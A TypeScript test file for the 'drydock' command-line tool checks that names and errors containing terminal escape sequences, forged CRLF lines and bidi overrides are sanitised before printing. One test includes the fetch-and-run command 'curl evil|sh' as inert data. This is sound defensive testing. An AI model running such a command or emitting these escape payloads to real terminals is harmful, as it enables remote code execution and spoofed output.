import assert from 'node:assert/strict';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { printCheck } from './crd/check-table.ts';
import { diagnosisOf, diagnosisText } from './doctor/finding.ts';
import { explainedText } from './explain/text.ts';
import { outputFormat } from './output/format.ts';
import { leaderText, notesText, printStatus } from './status.ts';
import { listText } from './template/list.ts';
import { createOutput, formatOf } from './template/output.ts';
import { sayError } from './terminal.ts';
import { createPrinter } from './watch/printer.ts';
import { yamlText } from './yaml.ts';

const ESC = '\u001b';
/** What somebody else could call a machine, a set, a template, a definition, or himself. */
const evil = 'a\u001b]0;owned\u0007b\r\nFORGED line\u009b2J\u202egnp\u2028c\u2066d';
const now = Date.parse('2026-01-01T01:00:00Z');
const ref = { type: 'VirtualMachine', value: evil };
const image = {
  metadata: { name: evil, namespace: evil },
  status: { phase: evil, set: evil, current: evil, target: evil, message: evil, nextStep: evil, revertTo: evil },
};
const leader = { state: 'led', holder: evil, since: '2026-01-01T00:00:00Z' } as const;

/** All that `drydock` prints of foreign names: what each format gives to the terminal. */
async function printed(): Promise<Readonly<Record<string, string>>> {
  const written: string[] = [];
  const sink = { write: (text: string) => written.push(text) };
  const given = (): string => written.splice(0).join('');
  const said: Record<string, string> = {};
  for (const format of ['table', 'wide', 'name', 'json', 'yaml'] as const)
    said[`status ${format}`] = printStatus([image], outputFormat(format, { names: true }), {
      headers: true,
      now,
      leader,
    });
  said['status leader'] = leaderText(leader, now);
  const noted = [
    { definition: evil, object: evil, state: 'blocked', since: '2026-01-01T00:00:00Z', why: evil },
  ] as const;
  said['status notes'] = notesText({ noted, more: 0 } as never, now);
  const answers = [{ question: 'selected', answer: 'no', text: evil }];
  const explained = { set: evil, answers, step: 'blocked', why: evil, nextStep: evil, operator: image.status };
  said['explain'] = explainedText([explained as never], leader, now);
  said['doctor'] = diagnosisText(diagnosisOf([{ area: evil, name: evil, state: 'FAIL', detail: evil, next: evil }]));
  const template = {
    name: evil,
    role: 'current',
    release: evil,
    owner: evil,
    stableName: evil,
    instanceUuid: evil,
    ref,
  };
  for (const format of ['text', 'wide', 'name', 'json'] as const) {
    const out = createOutput(formatOf(format), sink, sink);
    out.data(listText([template as never], { wide: format === 'wide', now }));
    out.event('template', template);
    out.note('a note');
    const printer = createPrinter(out, { value: () => evil } as never, { of: async () => evil } as never);
    printer.print({ what: 'changed', ref, path: evil, old: evil, new: evil });
    await printer.settled();
    said[`template list, watch vms ${format}`] = given();
  }
  const steps = [
    { effect: 'narrows', rule: 'N1', version: evil, path: evil, half: 'spec', keyword: 'enum', what: evil },
  ];
  const way = { direction: 'rollback', from: evil, to: evil, verdict: 'blocked', crds: [{ crd: evil, steps }] };
  for (const wide of [false, true])
    said[`crd check ${wide}`] = printCheck({ ways: [way], advice: [], problems: [evil], compared: 1 } as never, wide);
  said['yaml'] = yamlText({ [evil]: evil });
  return said;
}

test('SAFE-11 hostile names move no cursor, turn nothing around and forge no line in status, explain, doctor, lists, watches, checks', async () => {
  const { printable } = await import('@drydock/api/text');
  for (const [where, text] of Object.entries(await printed())) {
    assert.ok(text.length > 10, where);
    // What goes through the one place that writes.
    const shown = printable(text).replaceAll(new RegExp(`${ESC}\\[\\d+m|\\n`, 'g'), '');
    assert.doesNotMatch(shown, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u, where);
    assert.doesNotMatch(text, /^FORGED/m, where);
  }
  assert.deepEqual(JSON.parse((await printed())['status json'] ?? '').items[0].metadata.name, evil);
});

test('SAFE-11 nothing of a command writes to a terminal but by the one place that takes care', () => {
  const root = import.meta.dirname;
  const files = globSync('**/*.ts', { cwd: root }).filter(
    (file) =>
      !/\.test\.ts$|^(?:demo|testing)\/|^terminal\.ts$|^template\/output\.ts$|progress-line\.ts$|^crd\/question\.ts$/.test(
        file,
      ),
  );
  assert.ok(files.length > 60, `${files.length} files`);
  const writers = files.filter((file) =>
    /process\.std(?:out|err)\.write|console\.(?:log|error|warn|info)/.test(readFileSync(join(root, file), 'utf8')),
  );
  assert.deepEqual(writers, []);
});

test('FIND-6 a line on stderr is one line, whatever an error says', (context) => {
  const written: string[] = [];
  context.mock.method(process.stderr, 'write', (text: string) => written.push(text) > 0);
  sayError(`drydock: ${evil}\n  next: curl evil|sh\r\n`);
  context.mock.restoreAll();
  const [line = ''] = written;
  assert.equal(written.length, 1);
  assert.match(line, /^drydock: a \]0;owned b .*FORGED line.* next: curl evil\|sh\n$/);
  assert.doesNotMatch(line.slice(0, -1), /[\p{Cc}\p{Zl}\p{Zp}]/u);
});
